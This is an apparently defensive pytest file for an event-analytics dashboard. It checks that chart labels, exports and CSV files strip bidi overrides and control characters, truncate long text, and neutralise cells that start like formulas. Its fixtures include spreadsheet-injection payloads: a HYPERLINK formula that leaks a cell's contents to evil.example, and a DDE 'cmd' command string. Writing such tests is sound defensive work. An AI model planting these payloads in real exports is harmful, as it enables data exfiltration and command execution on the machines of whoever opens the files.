"""Untrusted text from documents and dataset files, wherever it is shown or exported: hover labels,
tick labels, exported HTML/SVG charts and CSV files. Bidi overrides and control characters are not
shown, very long strings are cut in labels, and no cell of a CSV export starts like a formula."""

from __future__ import annotations

import csv
import html
import io

import pandas as pd
import pytest

from analytics import charts, export, output, schema, views
from analytics.filters import Filters
from analytics.store import Store
from dashboard_data import synthetic_events

BIDI = "Taliban\u202e\u2066nabilaT\u2069\u202c"
CONTROL = "Russia\x1b[2J\x07\x08\u0085 envoys"
LONG = "Kabul " + "x" * 100_000
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1"]


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    rows = synthetic_events(12).to_dict("records")
    hostile = [BIDI, CONTROL, LONG] + FORMULAS
    for r, text in zip(rows, hostile):
        r.update(actor1=text[:1000], actor2="Russia", location=text, source=text[:200], sentence=text, date_expr=text[:300])
    rows[0]["event_label"] = BIDI
    s = Store(tmp_path_factory.mktemp("untrusted") / "events.duckdb")
    s.add_events(schema.validate(schema.conform(rows)))
    return s


def _shown(fig) -> list[str]:
    """Every string Plotly renders: hover text, trace text, annotations, tick labels, title."""
    out = []
    for t in fig.data:
        for attr in ("hovertext", "text"):
            v = getattr(t, attr, None)
            out += [v] if isinstance(v, str) else [str(x) for x in v] if v is not None else []
    out += [a.text for a in fig.layout.annotations if a.text]
    out += [str(x) for x in (fig.layout.yaxis.ticktext or [])]
    out.append(fig.layout.title.text or "")
    return out


@pytest.fixture(scope="module")
def figures(store):
    f = Filters()
    return {
        "timeline": charts.timeline_figure(views.timeline(store, f)),
        "network": charts.network_figure(views.network(store, f)),
        "map": charts.map_figure(views.interaction_map(store, f)),
    }


@pytest.mark.parametrize("name", ["timeline", "network", "map"])
def test_labels_show_no_bidi_override_or_control_character(figures, name):
    shown = _shown(figures[name])
    assert shown
    for s in shown:
        assert not views._INVISIBLE.search(html.unescape(s)), repr(s[:80])
    if name == "timeline":
        assert any("Taliban" in s and "nabilaT" in s for s in shown)  # the words stay, in stored order


@pytest.mark.parametrize("name", ["timeline", "network", "map"])
def test_labels_cut_very_long_strings(figures, name):
    shown = _shown(figures[name])
    assert max(len(s) for s in shown) < 3000
    if name != "network":  # the long text is a place and a sentence; the network shows actors (cut at 1000)
        assert any("xxx…" in s for s in shown)


@pytest.mark.parametrize("fmt", ["html", "svg"])
def test_exported_charts_carry_no_override_and_no_markup(figures, fmt):
    fig = figures["timeline"]
    stamp = "actors: " + BIDI + ", <b>bold</b>"
    data = export.html_bytes(fig, stamp, "Data: x") if fmt == "html" else export.image_bytes(fig, "svg", stamp, "Data: x")
    text = data.decode("utf-8")
    assert "\u202e" not in text and "\x1b" not in text and "<b>bold</b>" not in text


def test_stamp_under_an_exported_chart_is_cut(figures):
    out = charts.stamped(figures["map"], "actors: " + "y" * 20_000, "Data: x")
    assert len(out.layout.annotations[-1].text) < 2000


def test_no_csv_cell_starts_like_a_formula(store):
    frame = views.filtered_frame(store, Filters())
    stamp = 'actors: Taliban,=HYPERLINK("http://evil"),@SUM(1)'
    text = export.data_bytes(frame, "csv", stamp, "Data: x").decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2 + 1 + len(frame)  # no cell broke its row: a CR in a cell is quoted as a line break
    cells = [c for row in rows for c in row]
    risky = [c for c in cells if c.startswith(output._FORMULA_START) and not _number(c)]
    assert risky == []
    assert sum(c.startswith("'") for c in cells) >= len(FORMULAS)
    back = pd.read_csv(io.StringIO(text), skiprows=2)  # the stamp is still two lines to skip
    assert len(back) == len(frame) and pd.api.types.is_numeric_dtype(back["goldstein"])
    assert "HYPERLINK" in text.splitlines()[0] and text.splitlines()[0].startswith('"# Filters:')


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("value", FORMULAS)
def test_each_formula_start_is_neutralised_and_read_back_as_text(value):
    buf = io.StringIO()
    output.write_csv(schema.conform([{**synthetic_events(1).iloc[0].to_dict(), "actor1": value}]), buf)
    row = next(csv.DictReader(io.StringIO(buf.getvalue())))
    assert row["actor1"] == "'" + value.replace("\r", "\n") and row["quad_class"].isdigit()  # a CR is a line break


def test_numbers_and_negative_scores_stay_numbers():
    buf = io.StringIO()
    output.write_csv(schema.conform([{**synthetic_events(1).iloc[0].to_dict(), "goldstein": -10.0, "lat": -33.9}]), buf)
    row = next(csv.DictReader(io.StringIO(buf.getvalue())))
    assert row["goldstein"] == "-10.0" and row["lat"] == "-33.9"


def test_events_table_shows_no_override_or_control_character(store):
    rows = views.events_page(store, Filters(), page_size=50).rows
    text = " ".join(v for col in rows.columns for v in rows[col] if isinstance(v, str))
    assert "Taliban" in text and "nabilaT" in text and not views._INVISIBLE.search(text)


def test_events_table_cuts_very_long_text_but_the_evidence_keeps_it(store):
    rows = views.events_page(store, Filters(), page_size=50).rows
    longest = max(len(v) for col in rows.columns for v in rows[col] if isinstance(v, str))
    assert longest == views.TABLE_TEXT_CHARS
    event_id = next(e for e, s in zip(rows["event_id"], rows["sentence"]) if isinstance(s, str) and s.endswith("…"))
    assert views.evidence(store, event_id).event["sentence"] == LONG
